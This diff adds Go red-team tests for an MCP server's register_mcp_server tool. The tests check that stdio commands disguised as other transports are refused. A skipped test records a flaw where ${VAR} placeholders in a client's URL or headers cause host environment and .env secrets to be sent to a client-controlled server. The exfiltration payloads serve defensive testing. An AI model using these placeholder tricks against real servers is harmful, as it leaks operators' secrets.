@@ -1,0 +1,102 @@
+package mcpserver
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/ipybox/ipybox/internal/testenv"
+)
+
+// TestRedteam4RegisterTransportTricks: without a sandbox, a stdio server
+// registered through the tool is refused. A client that dresses the
+// command as another transport (a type of http or sse beside a command, a
+// url beside it, an odd spelling of stdio) must not get it started on the
+// host either: each is refused, and the command never runs.
+func TestRedteam4RegisterTransportTricks(t *testing.T) {
+	t.Parallel()
+	py := testenv.NeedsPython(t)
+	mark, canary := hostFiles(t)
+	srv := newGatedServer(t, &Options{Workspace: t.TempDir()})
+	cs := connect(t, srv, nil)
+	base := func() map[string]any { return probeParams(t, py, mark, canary) }
+	for _, v := range []struct {
+		name   string
+		params map[string]any
+	}{
+		{"type http beside a command", with(with(base(), "type", "http"), "url", "http://127.0.0.1:9/mcp")},
+		{"type sse beside a command", with(with(base(), "type", "sse"), "url", "http://127.0.0.1:9/sse")},
+		{"type http, no url", with(base(), "type", "http")},
+		{"a url beside a command", with(base(), "url", "http://127.0.0.1:9/mcp")},
+		{"type STDIO", with(base(), "type", "STDIO")},
+		{"type ' stdio'", with(base(), "type", " stdio")},
+		{"type streamable-http", with(base(), "type", "streamable-http")},
+		{"type local", with(base(), "type", "local")},
+		{"sandbox null", with(base(), "sandbox", nil)},
+		{"sandbox {}", with(base(), "sandbox", map[string]any{})},
+		{"sandbox \"true\"", with(base(), "sandbox", "true")},
+		{"sandbox 1", with(base(), "sandbox", 1)},
+		{"command from a placeholder", map[string]any{"command": "${IPYBOX_RT4_PY}", "args": []string{"-c", probeSrv}, "env": map[string]string{"MARK": mark, "CANARY": canary}}},
+	} {
+		res := call(t, cs, "register_mcp_server", map[string]any{"server_name": "h", "server_params": v.params})
+		if _, err := os.Stat(mark); err == nil {
+			t.Fatalf("%s: the client's command started on the host (%s)", v.name, short(text(res)))
+		}
+		if !res.IsError {
+			t.Errorf("%s: registered: %s", v.name, short(text(res)))
+		}
+	}
+}
+
+// TestRedteam4RegisterReadsHostSecrets: register_mcp_server fills ${VAR}
+// in the client's config from ipybox's own environment and the
+// workspace's .env (docs/mcp.md says so). The config is the client's: a
+// url server at the client's own address, with the placeholder in its
+// URL or a header, makes ipybox send the value there. Over HTTP that is
+// every token holder reading the operator's secrets (another principal's
+// API keys, the values of .env that kernels cannot read: invariant 5 says
+// ${VAR} is filled only in host-side configs). Variants: a placeholder in
+// the URL's path, in its query, in a header, from the environment and
+// from .env, by a second principal.
+func TestRedteam4RegisterReadsHostSecrets(t *testing.T) {
+	t.Skip("BREAK: a client's register_mcp_server config gets ${VAR} filled from ipybox's environment and .env, and a url server sends them to the client's address; see /work/notes/attack.md")
+	const envSecret, dotSecret = "env-s3cret-4f1d", "dot-s3cret-9a7c"
+	t.Setenv("IPYBOX_RT4_SECRET", envSecret)
+	var mu sync.Mutex
+	var seen []string
+	leak := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		seen = append(seen, fmt.Sprintf("%s %v", r.URL.String(), r.Header))
+		mu.Unlock()
+		http.NotFound(w, r)
+	}))
+	t.Cleanup(leak.Close)
+	srv := newGatedServer(t, &Options{Workspace: t.TempDir(), Principals: twoPrincipals, DotEnv: map[string]string{"OPERATOR_KEY": dotSecret}})
+	url := serveHTTP(t, srv)
+	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
+	h := createSession(t, alice)
+	for i, params := range []map[string]any{
+		{"url": leak.URL + "/p/${IPYBOX_RT4_SECRET}"},
+		{"url": leak.URL + "/q?k=${OPERATOR_KEY}"},
+		{"type": "http", "url": leak.URL + "/h", "headers": map[string]string{"X-Leak": "${IPYBOX_RT4_SECRET} ${OPERATOR_KEY}"}},
+	} {
+		res := call(t, alice, "register_mcp_server", map[string]any{"server_name": fmt.Sprintf("leak%d", i), "server_params": params, "session": h})
+		t.Logf("variant %d: %s", i, short(text(res)))
+		for _, s := range []string{envSecret, dotSecret} {
+			if strings.Contains(text(res), s) {
+				t.Errorf("variant %d: the result carries a secret: %s", i, short(text(res)))
+			}
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	for _, r := range seen {
+		if strings.Contains(r, envSecret) || strings.Contains(r, dotSecret) {
+			t.Errorf("ipybox sent a host secret to the client's address: %s", r)
+		}
+	}
+}
